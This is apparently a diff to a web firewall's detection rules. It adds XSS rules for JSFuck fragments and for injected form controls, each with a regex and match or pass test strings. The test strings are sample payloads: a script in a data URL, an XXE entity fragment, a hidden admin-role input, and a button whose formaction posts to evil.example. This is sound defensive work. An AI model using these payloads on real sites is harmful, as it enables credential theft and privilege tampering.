@@ -102,3 +102,44 @@ test: data: , <x>
 test: data:text/html,<script>alert(1)</script>
 test: foo!ENTITY % bar SYSTEM
 pass: data: 2023-01-01, <2 items>
+
+id: 300002701
+name: XSS: JSFuck fragments, booleans and strings made from empty arrays
+# JSFuck writes every character from `![]` (false), `!![]` or `!+[]` (true), `+[]` (0) and
+# `[]+[]` (an empty string), and indexes the strings they give (`(![]+[])[+[]]` is `f`).
+# Short probes send those fragments alone; a Markdown image (`![](url)`) is none of them.
+type: Cross Site Scripting (XSS)
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+unless: binary
+literal: []
+regex: !\s*[!+]\s*\[\s*\]|\(\s*!\s*\[\s*\]\s*\+\s*\[\s*\]\s*\)|\[\s*\]\s*\+\s*\[\s*\]|\[\s*\+\s*!?\s*\[\s*\]\s*\]
+test: !![]
+test: !+[]
+test: (![]+[])[+[]]
+test: []+[]
+pass: test~~~\n\n![](https://ctstack-oss.oss-cn-beijing.aliyuncs.com/challenge/7
+pass: {"a":[],"b":{}}
+pass: [1, 2, 3] + [4]
+
+id: 300002702
+name: HTML injection: a form control injected with its attributes
+# A form control placed in a page by an attacker submits what the user types or what the
+# browser fills in (a password field, a hidden `role` field, a button with `formaction`), with
+# no script; an attribute (`pattern`, `name`, `type`, `value`, ...) or a closed tag shows it is
+# markup and not a word after `<`.
+type: Cross Site Scripting (XSS)
+accuracy: high
+risk: high
+targets: @values, header, param-name
+unless: binary
+literal: <
+regex: <\s*(?:input|button|textarea|select|output|datalist)\b[^<>]{0,200}?[\s/"'](?:name|type|value|pattern|formaction|formmethod|formtarget|form|autofocus|autocomplete|placeholder|list|required|hidden|checked)\b
+test: <input pattern="^a regex$">
+test: <input type="hidden" name="role" value="admin">
+test: "><button formaction="https://evil.example/">Login</button>
+test: <textarea name=comment>
+pass: <INPUT
+pass: <BUTTON
+pass: a<input and output>b
